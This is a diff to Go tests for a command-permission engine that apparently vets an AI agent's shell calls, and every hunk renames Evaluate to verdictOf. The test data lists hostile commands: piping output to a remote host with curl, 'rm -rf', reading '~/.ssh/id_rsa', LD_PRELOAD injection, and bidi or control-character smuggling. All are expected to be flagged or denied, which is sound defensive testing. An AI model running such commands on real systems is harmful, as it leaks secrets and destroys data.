@@ -27,7 +27,7 @@ func TestCommandLinesInModeDefault(t *testing.T) {
 		"touch a": "ask CHANGES_THINGS", "ls; touch a": "ask CHANGES_THINGS", "echo x > a.txt": "ask CHANGES_THINGS", "curl https://a.example": "ask NETWORK", "ls | curl -d @- https://a.example": "ask NETWORK",
 		"rm -rf src": "ask DESTRUCTIVE", "sudo ls": "ask ESCAPE_ATTEMPT", "cat ~/.ssh/id_rsa": "ask ESCAPE_ATTEMPT", "$X": "ask UNPARSABLE", "ls \u202e": "ask UNPARSABLE", "": "ask UNPARSABLE", "echo $(touch a)": "ask CHANGES_THINGS",
 	} {
-		v := Evaluate(Builtin(), runLine(text))
+		v := verdictOf(Builtin(), runLine(text))
 		if got := string(v.Decision) + " " + v.ReasonCode; got != want {
 			t.Errorf("%q: %s (%+v), want %s", text, got, v.Commands, want)
 		}
@@ -36,7 +36,7 @@ func TestCommandLinesInModeDefault(t *testing.T) {
 		`{"argv":["ls","-la"]}`: Allow, `{"argv":["touch","a"]}`: Ask, `{"command":"ls","dir":"sub"}`: Allow, `{"command":"cat a","dir":"/etc"}`: Ask, `{"command":"cat a","dir":"../x"}`: Ask,
 		`{"command":"ls","env":{"A":"b"}}`: Ask, `{"command":"ls","env":{"LD_PRELOAD":"x"}}`: Ask, `{"command":"ls","env":{}}`: Allow, `{}`: Ask, `[]`: Ask, `{"command":3}`: Ask, `{"command":"ls","argv":["rm","x"]}`: Ask,
 	} {
-		if v := Evaluate(Builtin(), execCall(args)); v.Decision != want {
+		if v := verdictOf(Builtin(), execCall(args)); v.Decision != want {
 			t.Errorf("%s: %s %s, want %s", args, v.Decision, v.ReasonCode, want)
 		}
 	}
@@ -52,7 +52,7 @@ func TestAnAllowedProgramIsTheOneThatIsMeant(t *testing.T) {
 		"go test $(touch x)": Ask, "sh -c 'go test ./...'": Allow, "git push": Deny, "ls && git push origin": Deny, "echo $(git push)": Deny, "env X=y git push": Deny, "$P test": Ask, "timeout 5 go test .": Allow,
 		"find . -exec git push \\;": Deny, "xargs git push": Deny, "git -C sub push": Deny,
 	} {
-		if v := Evaluate(set, runLine(text)); v.Decision != want {
+		if v := verdictOf(set, runLine(text)); v.Decision != want {
 			t.Errorf("%q: %s by %s, want %s: %+v", text, v.Decision, v.Rule, want, v.Commands)
 		}
 	}
@@ -63,13 +63,13 @@ func TestAGrantCoversOnlyWhatItCanSee(t *testing.T) {
 	for text, want := range map[string]Decision{"touch a": Allow, "curl https://a.example": Allow, "rm -rf src": Allow, "$X": Ask, "sudo ls": Ask, "echo x > /etc/hosts": Ask} {
 		r := runLine(text)
 		r.Grants = []Grant{{Tool: "exec", Tier: TierUser, Kind: "rule"}}
-		if v := Evaluate(Builtin(), r); v.Decision != want {
+		if v := verdictOf(Builtin(), r); v.Decision != want {
 			t.Errorf("%q: %s %s, want %s", text, v.Decision, v.ReasonCode, want)
 		}
 	}
 	named := compiled(t, Rule{ID: "all", Tier: TierUser, Verdict: Allow, Match: Match{Tool: []string{"exec"}, Command: &CommandMatch{Class: classNames()}}})
 	for _, text := range []string{"$X", "sudo ls"} {
-		if v := Evaluate(named, runLine(text)); v.Decision != Allow {
+		if v := verdictOf(named, runLine(text)); v.Decision != Allow {
 			t.Errorf("%q with its class named: %s", text, v.Decision)
 		}
 	}
@@ -89,12 +89,12 @@ func TestOddCommandsAreNeverAllowed(t *testing.T) {
 		"1 MB": "echo " + strings.Repeat("x", 1<<20), "NUL": "ls\x00", "CR": "ls\rrm", "next line": "ls\u0085rm x", "line separator": "ls\u2028rm x", "bidi": "ls \u202exr mr",
 		"pipes": "ls" + strings.Repeat("|ls", 10_000), "deep": strings.Repeat("$(", 3000) + "ls" + strings.Repeat(")", 3000), "half": "ls '", "confusable": "ｌｓ",
 	} {
-		if v := Evaluate(Builtin(), runLine(text)); v.Decision == Allow {
+		if v := verdictOf(Builtin(), runLine(text)); v.Decision == Allow {
 			t.Errorf("%s: %+v", name, v)
 		}
 	}
 	for _, args := range []string{"", "null", `"ls"`, `{"command":["ls"]}`, `{"command":"ls"`} {
-		if v := Evaluate(Builtin(), execCall(args)); v.Decision == Allow {
+		if v := verdictOf(Builtin(), execCall(args)); v.Decision == Allow {
 			t.Errorf("%q: %+v", args, v)
 		}
 	}
@@ -102,7 +102,7 @@ func TestOddCommandsAreNeverAllowed(t *testing.T) {
 	for i := range maxCommands + 1 {
 		many.Commands = append(many.Commands, Command{Name: fmt.Sprint("c", i), Class: ReadOnly})
 	}
-	if v := Evaluate(Builtin(), many); v.Decision != Ask || v.ReasonCode != "UNPARSABLE" {
+	if v := verdictOf(Builtin(), many); v.Decision != Ask || v.ReasonCode != "UNPARSABLE" {
 		t.Errorf("too many: %+v", v.Decision)
 	}
 }
@@ -113,12 +113,12 @@ func TestAHintHelps(t *testing.T) {
 		for _, mode := range []belay.Mode{belay.ModeDefault, belay.ModeNever} {
 			r := runLine(text)
 			r.Mode, r.Headless = mode, true
-			v := Evaluate(Builtin(), r)
+			v := verdictOf(Builtin(), r)
 			if got := strings.Contains(v.Hint, "--allow exec"); v.Decision != Deny || v.Hint == "" || got != want {
 				t.Errorf("%q in mode %s: %s, %q; a grant helps: %v", text, mode, v.Decision, v.Hint, want)
 			}
 			r.Grants = []Grant{{Tool: "exec", Tier: TierUser, Kind: "rule"}}
-			if v = Evaluate(Builtin(), r); (v.Decision == Allow) != want {
+			if v = verdictOf(Builtin(), r); (v.Decision == Allow) != want {
 				t.Errorf("%q in mode %s with the grant: %s", text, mode, v.Decision)
 			}
 		}
@@ -126,7 +126,7 @@ func TestAHintHelps(t *testing.T) {
 	r := runLine("touch a")
 	r.Headless = true
 	set := compiled(t, Rule{ID: "a", Tier: TierAdmin, Verdict: Ask, Match: Match{Tool: []string{"exec"}}})
-	if v := Evaluate(set, r); strings.Contains(v.Hint, "--allow") {
+	if v := verdictOf(set, r); strings.Contains(v.Hint, "--allow") {
 		t.Errorf("an administrator's ask: %q", v.Hint)
 	}
 }
@@ -145,7 +145,7 @@ func TestAGroupIsThatOfItsTier(t *testing.T) {
 		if err != nil {
 			t.Fatal(err)
 		}
-		if v := Evaluate(set, runLine("touch a")); (v.Decision == Allow) != c.reaches {
+		if v := verdictOf(set, runLine("touch a")); (v.Decision == Allow) != c.reaches {
 			t.Errorf("a group of tier %q in a rule of tier %q: %s by %s", c.group, c.rule, v.Decision, v.Rule)
 		}
 	}
@@ -185,7 +185,7 @@ func TestTaintedCallsNeedARuleThatNamesThem(t *testing.T) {
 		set := compiled(t, Rule{ID: "ok", Tier: TierAdmin, Priority: 999, Verdict: Allow, Match: c.when})
 		r := c.r
 		r.Taint = c.taint
-		if v := Evaluate(set, r); string(v.Decision)+" "+v.ReasonCode != c.want {
+		if v := verdictOf(set, r); string(v.Decision)+" "+v.ReasonCode != c.want {
 			t.Errorf("%s: %s %s by %s, want %s", name, v.Decision, v.ReasonCode, v.Rule, c.want)
 		}
 	}
